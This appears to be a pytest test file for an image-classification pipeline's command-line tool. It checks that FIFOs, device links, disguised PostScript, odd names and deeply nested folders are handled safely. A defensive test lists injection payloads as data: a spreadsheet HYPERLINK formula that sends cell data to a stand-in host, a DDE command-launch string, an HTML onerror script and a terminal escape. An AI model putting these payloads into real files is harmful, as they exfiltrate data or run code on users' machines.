"""Hostile files and names, through the real commands: a FIFO, a link to /dev/zero, PostScript
named .png, names that are not UTF-8, a folder 1,200 deep and links out of the images folder
never hang, crash or run anything; class and file names built to be formulas, TeX, HTML,
Markdown, rich markup and terminal escapes stay inert text in every file and on the terminal."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import tracemalloc
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from pipeline.core.artifacts import csv_cell, csv_read
from pipeline.data import data_folder
from pipeline.data.images import decode_image
from tests.conftest import read_manifest, run_cli, write_image_folder

DEPTH = 1200  # folders: past Python's recursion limit


def pipeline_command() -> list[str]:
    entry = Path(sys.executable).with_name("pipeline")
    return [str(entry)] if entry.exists() else [sys.executable, "-m", "pipeline"]


def run_within(args: list, seconds: float = 120, env: dict | None = None) -> subprocess.CompletedProcess:
    """The real command in its own process, killed (and the test failed) if it hangs."""
    try:
        return subprocess.run(
            [*pipeline_command(), *map(str, args)], capture_output=True, text=True, timeout=seconds, env=env
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"pipeline {' '.join(map(str, args))} still running after {seconds} s")


def deep_folder(top: Path, depth: int) -> Path:
    folder = top
    for _ in range(depth):  # one at a time: os.makedirs recurses
        folder = folder / "d"
        folder.mkdir()
    return folder


def remove_deep(top: Path, depth: int) -> None:
    """Bottom up, without recursion (shutil.rmtree recurses, and pytest's clean-up uses it)."""
    chain = [top / Path(*["d"] * n) for n in range(1, depth + 1)]
    for folder in reversed(chain):
        for entry in folder.iterdir():
            if not entry.is_dir() or entry.is_symlink():
                entry.unlink()
        folder.rmdir()


@pytest.fixture
def hostile(tmp_path) -> dict:
    """A folder of good images and every kind of file that must be skipped or listed, with a
    `gs` on PATH that leaves a mark if Pillow ever runs Ghostscript."""
    images = write_image_folder(tmp_path / "images", per_class=8, size=16)
    os.mkfifo(images / "cat" / "pipe.png")
    os.symlink("/dev/zero", images / "dog" / "zero.png")
    (images / "fox" / "drawing.png").write_bytes(
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 16 16\nnewpath 0 0 moveto 16 16 lineto stroke\nshowpage\n"
    )
    cat = os.fsencode(images / "cat")
    Image.fromarray(np.full((16, 16, 3), 200, np.uint8)).save(cat + b"/caf\xe9.png")
    open(cat + b"/notes-\xff.txt", "wb").close()
    deep = deep_folder(images / "dog", DEPTH)
    Image.fromarray(np.random.default_rng(5).integers(0, 256, (16, 16, 3), dtype=np.uint8)).save(deep / "deep.png")
    elsewhere = write_image_folder(tmp_path / "elsewhere", per_class=1, classes=("cat",), size=16, seed=9)
    os.symlink(elsewhere / "cat" / "cat_000.png", images / "cat" / "linked.png")
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    marker = tmp_path / "ghostscript-ran"
    (fake_bin / "gs").write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
    (fake_bin / "gs").chmod(0o755)
    env = {**os.environ, "PATH": f"{fake_bin}{os.pathsep}{os.environ['PATH']}", "PIPELINE_PROGRESS": "never"}
    yield {"images": images, "env": env, "marker": marker, "root": tmp_path}
    remove_deep(images / "dog", DEPTH)


def test_prepare_skips_what_is_not_a_regular_image_file_within_the_deadline(hostile):
    images, out = hostile["images"], hostile["root"] / "data"
    done = run_within(["prepare", images, "--out", out, "--size", "16", "--no-cache"], env=hostile["env"])
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr + done.stdout
    report = json.loads((out / "report.json").read_text())
    why = {item["path"]: item["reason"] for item in report["skipped"] + report["ignored"]["items"]}
    assert "FIFO" in why["cat/pipe.png"] and "device" in why["dog/zero.png"]
    assert "not an image of a format read here" in why["fox/drawing.png"]
    assert "UTF-8" in why["cat/caf\\xe9.png"] and "UTF-8" in why["cat/notes-\\xff.txt"]
    assert not hostile["marker"].exists(), "Pillow ran Ghostscript"
    kept = {row["path"] for row in read_manifest(out)}
    assert "dog/" + "d/" * DEPTH + "deep.png" in kept  # walked without a recursion limit
    assert "cat/linked.png" in kept
    assert report["links_out"] == [
        {"path": "cat/linked.png", "target": str((hostile["root"] / "elsewhere/cat/cat_000.png").resolve())}
    ]
    assert "cat/linked.png" in done.stdout + done.stderr  # said on the terminal too


def test_inspect_skips_them_too_within_the_deadline(hostile):
    done = run_within(["inspect", hostile["images"], "--json"], env=hostile["env"])
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout)
    why = {item["path"]: item["reason"] for item in found["skipped"] + found["ignored"]}
    assert "FIFO" in why["cat/pipe.png"] and "device" in why["dog/zero.png"]
    assert "not an image of a format read here" in why["fox/drawing.png"]
    assert not hostile["marker"].exists()


def test_predict_reads_a_name_that_is_not_utf8_and_writes_it_escaped(trained, tmp_path):
    folder = tmp_path / "new"
    folder.mkdir()
    source = sorted((trained["images"] / "cat").iterdir())[0]
    with open(os.fsencode(folder) + b"/caf\xe9" + os.fsencode(source.suffix), "wb") as f:
        f.write(source.read_bytes())
    os.mkfifo(folder / "pipe.png")
    out = tmp_path / "p.csv"
    done = run_within(["predict", folder, "--model", trained["model"], "--csv", out])
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [Path(r["file"]).name for r in rows] == [f"caf\\xe9{source.suffix}"] and rows[0]["label"]
    assert "pipe.png: not a regular file (a FIFO" in done.stderr
    assert "caf\\xe9" in done.stdout


def test_a_16bit_picture_is_scaled_without_float64_copies(tmp_path):
    side = 2000
    values = np.linspace(0, 65535, side * side).astype(np.uint16).reshape(side, side)
    Image.fromarray(values).save(tmp_path / "wide.png")
    data = (tmp_path / "wide.png").read_bytes()
    tracemalloc.start()
    picture = decode_image(data, "grayscale")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    expected = np.clip(np.rint(values * (255 / 65535)), 0, 255).astype(np.uint8)
    assert np.array_equal(np.asarray(picture), expected)  # the same pixels as before
    assert peak < 6 * side * side, f"{peak / side / side:.1f} bytes a pixel"  # was about 25


def test_csv_cells_are_escaped_and_read_back():
    for text in ("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'quoted", "plain", "", "a=b"):
        written = csv_cell(text)
        assert not str(written).startswith(("=", "+", "-", "@", "\t", "\r")), text
        assert csv_read(written) == text
    assert csv_cell("-0.25") == "-0.25" and csv_cell("+3e-2") == "+3e-2"  # numbers stay numbers


HOSTILE_CLASSES = {
    "formula": '=HYPERLINK("evil.example?"&A1,"open")',
    "tex": "$\\foo$ and [blink red]markup",
    "html": "<img src=x onerror=alert(1)>",  # no slash in a folder name
    "escape": "esc\x1b[2Jape",
    "markdown": "new\n# heading",
}


def test_hostile_class_and_file_names_stay_text_everywhere(tmp_path):
    images = tmp_path / "images"
    write_image_folder(images, per_class=12, classes=tuple(HOSTILE_CLASSES.values()), size=16)
    odd = images / HOSTILE_CLASSES["formula"] / "-cmd|' -C calc'!A0.png"
    (images / HOSTILE_CLASSES["formula"] / f"{HOSTILE_CLASSES['formula']}_000.png").rename(odd)
    data, model, reports, audit = (tmp_path / n for n in ("data", "model", "reports", "audit"))
    prepared = run_cli("prepare", images, "--out", data, "--size", "16", "--no-flip", "--no-cache")
    run_cli("train", "--data", data, "--out", model, "--epochs", "2", "--batch-size", "16", "--precision", "float32")
    evaluated = run_cli("evaluate", "--data", data, "--model", model, "--out", reports)  # "$\foo$" in the figures
    predictions = tmp_path / "predict.csv"
    predicted = run_cli("predict", images, "--model", model, "--csv", predictions, "--explain", tmp_path / "heat")
    run_cli("audit", "--data", data, "--out", audit, "--folds", "2", "--epochs", "1", "--quiet")

    for file in (
        data / "manifest.csv",
        data / "health.csv",
        reports / "predictions.csv",
        predictions,
        audit / "audit.csv",
    ):
        for row in csv.reader(file.open(encoding="utf-8", newline="")):
            live = [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
            live += [c for c in row if c.startswith("-") and not c.replace(".", "", 1).lstrip("-").isdigit()]
            assert not live, f"{file.name}: {live}"
    assert {row["label"] for row in data_folder.read_manifest(data)} == set(HOSTILE_CLASSES.values())  # read back
    for page in (reports / "report.html", audit / "audit.html"):
        assert "<img src=x" not in page.read_text(encoding="utf-8")
    card = (model / "MODEL_CARD.md").read_text(encoding="utf-8")
    assert "<img src=x" not in card and "&lt;img src=x onerror=alert(1)&gt;" in card
    assert not any(line.startswith("# heading") for line in card.splitlines())
    for said in (prepared.output, evaluated.output, predicted.output):
        assert "\x1b" not in said and "esc\\x1b[2J" in said, said  # a table may wrap the rest
    assert "[blink red]markup" in predicted.output  # one line per file: no table to wrap it

    # prepare --fixes reads audit.csv's escaped cells back: relabel the formula-named file
    fixes = tmp_path / "fixes.csv"
    rel = f"{HOSTILE_CLASSES['formula']}/{odd.name}"
    with fixes.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["path", "action"])
        writer.writerow([csv_cell(rel), csv_cell(f"relabel:{HOSTILE_CLASSES['html']}")])
    assert next(csv.reader(fixes.open())) and "'=HYPERLINK" in fixes.read_text()
    run_cli("prepare", images, "--out", tmp_path / "fixed", "--size", "16", "--fixes", fixes, "--no-cache")
    moved = {row["path"]: row["label"] for row in data_folder.read_manifest(tmp_path / "fixed")}
    assert moved[rel] == HOSTILE_CLASSES["html"]


def test_explain_names_are_unique_and_bounded(trained, tmp_path):
    from pipeline.inference.gradcam import MAX_STEM_BYTES, overlay_names

    source = sorted((trained["images"] / "cat").iterdir())[0]
    long = "é" * 120  # 240 bytes of stem: over the file name limit once .gradcam.png is added
    for folder in ("a", "b"):
        (tmp_path / "new" / folder).mkdir(parents=True)
        (tmp_path / "new" / folder / f"x{source.suffix}").write_bytes(source.read_bytes())
    (tmp_path / "new" / "a" / f"x-2{source.suffix}").write_bytes(source.read_bytes())
    (tmp_path / "new" / "b" / f"{long}{source.suffix}").write_bytes(source.read_bytes())
    run_cli("predict", tmp_path / "new", "--model", trained["model"], "--explain", tmp_path / "heat", "--quiet")
    written = sorted(p.name for p in (tmp_path / "heat").iterdir())
    assert len(written) == 4 and all(len(name.encode()) <= MAX_STEM_BYTES + 20 for name in written)
    assert overlay_names(["a/x.png", "b/x.png", "c/x-2.png", "d/X.png"]) == [
        "x.gradcam.png",
        "x-2.gradcam.png",
        "x-2-2.gradcam.png",
        "X-3.gradcam.png",
    ]


# --- the user's files: a folder the tool did not write is never replaced; a full disk -------


def test_an_out_folder_holding_anything_the_tool_did_not_write_is_never_replaced(tmp_path):
    images = write_image_folder(tmp_path / "images", per_class=6, size=16)
    project = tmp_path / "proj"
    project.mkdir()
    (project / "report.json").write_text("{}")  # looks like prepare's, is not
    (project / "thesis.txt").write_text("years of work")
    refused = run_cli("prepare", images, "--out", project, "--size", "16", "--no-cache", expect=1)
    lines = refused.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: --out") and "thesis.txt" in lines[0], refused.output
    assert (project / "thesis.txt").read_text() == "years of work"

    data = tmp_path / "data"
    run_cli("prepare", images, "--out", data, "--size", "16", "--no-cache", "--quiet")
    run_cli("prepare", images, "--out", data, "--size", "16", "--no-cache", "--quiet")  # its own: replaced
    (data / "notes.md").write_text("mine")
    run_cli("prepare", images, "--out", data, "--size", "16", "--no-cache", expect=1)
    assert (data / "notes.md").read_text() == "mine"


def test_files_the_tool_adds_to_its_folder_later_stay_its_own(tmp_path):
    from pipeline.core.artifacts import MARKER, atomic_dir, atomic_file, check_replaceable, write_json
    from pipeline.core.errors import PipelineError

    model = tmp_path / "model"
    with atomic_dir(model) as tmp:
        (tmp / "logs").mkdir()
        (tmp / "logs" / "events").write_text("x")
        write_json(tmp / "settings.json", {})
    assert (model / MARKER).is_file()
    write_json(model / "exports.json", {})  # as export and evaluate add files after train
    with atomic_file(model / "model.onnx") as where:
        where.write_bytes(b"onnx")
    with atomic_dir(model / "model_saved") as tmp:
        (tmp / "saved_model.pb").write_bytes(b"pb")
    check_replaceable(model)
    with atomic_dir(model) as tmp:  # replaced whole: every file is the tool's
        write_json(tmp / "settings.json", {"again": True})
    for foreign in (model / "mine.txt", model / "logs2" / "x"):
        with atomic_dir(model) as tmp:
            (tmp / "logs").mkdir()
        foreign.parent.mkdir(exist_ok=True)
        foreign.write_text("the user's")
        with pytest.raises(PipelineError, match="did not write"):
            check_replaceable(model)
        foreign.unlink()
        if foreign.parent != model:
            foreign.parent.rmdir()
    (model / "logs" / "theirs.txt").write_text("the user's")  # deep inside a folder of the tool's
    with pytest.raises(PipelineError, match="logs/theirs.txt"):
        with atomic_dir(model):
            pass
    assert (model / "logs" / "theirs.txt").read_text() == "the user's"


FULL_DISK_SCENARIO = r"""
import hashlib, json, os, resource, signal, subprocess, sys
from pathlib import Path

mode, command, images, disk = sys.argv[1], json.loads(sys.argv[2]), sys.argv[3], Path(sys.argv[4])
if mode == "tmpfs":  # a real, small file system of its own (a mount namespace: nothing outside sees it)
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=24m", "tmpfs", str(disk)], check=True)

def run(*args, limit=None):
    def limited():
        if limit:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    done = subprocess.run([*command, *args], capture_output=True, text=True, preexec_fn=limited)
    return {"rc": done.returncode, "stderr": done.stderr, "stdout": done.stdout}

def snapshot():
    return {str(p.relative_to(disk)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(disk.rglob("*")) if p.is_file()}

data, model = disk / "data", disk / "model"
first = [run("prepare", images, "--out", data, "--size", "16", "--no-cache", "--augment", "1", "--quiet"),
         run("train", "--data", data, "--out", model, "--epochs", "1", "--precision", "float32", "--quiet")]
before = snapshot()
limit = None
if mode == "tmpfs":
    free = os.statvfs(disk).f_bavail * os.statvfs(disk).f_frsize
    with open(disk / "filler", "wb") as f:  # leave 16 KB free: less than either stage writes
        f.write(b"\0" * (free - 16 * 1024))
    before["filler"] = hashlib.sha256((disk / "filler").read_bytes()).hexdigest()
else:
    limit = 16 * 1024
full = [run("prepare", images, "--out", data, "--size", "16", "--no-cache", "--augment", "3", limit=limit),
        run("train", "--data", data, "--out", model, "--epochs", "2", "--precision", "float32", limit=limit)]
print(json.dumps({"first": first, "full": full, "same": snapshot() == before, "left": sorted(os.listdir(disk))}))
"""


def test_a_full_disk_ends_in_one_error_line_and_the_earlier_artifacts_stay(tmp_path):
    images = write_image_folder(tmp_path / "images", per_class=10, size=16)
    disk = tmp_path / "disk"
    disk.mkdir()
    script = tmp_path / "scenario.py"
    script.write_text(FULL_DISK_SCENARIO)
    can_mount = subprocess.run(["unshare", "-rm", "true"], capture_output=True).returncode == 0
    # Where no mount namespace can be had (no unshare, user namespaces off), the nearest thing
    # that is still the kernel's own refusal: a file-size limit (EFBIG) in place of a full disk.
    wrap = ["unshare", "-rm"] if can_mount else []
    args = [sys.executable, str(script), "tmpfs" if can_mount else "rlimit", json.dumps(pipeline_command())]
    done = subprocess.run([*wrap, *args, str(images), str(disk)], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert [r["rc"] for r in result["first"]] == [0, 0], result["first"]
    for stage in result["full"]:
        lines = stage["stderr"].strip().splitlines()
        assert stage["rc"] == 1 and "Traceback" not in stage["stderr"], stage["stderr"]
        said = "no space left on the device" if can_mount else "file too large"
        assert lines[-1].startswith(f"error: {said}") and "earlier artifacts are as they were" in lines[-1], lines
    assert result["same"], "the earlier artifacts changed"
    assert not [name for name in result["left"] if ".tmp-" in name or ".old-" in name], result["left"]
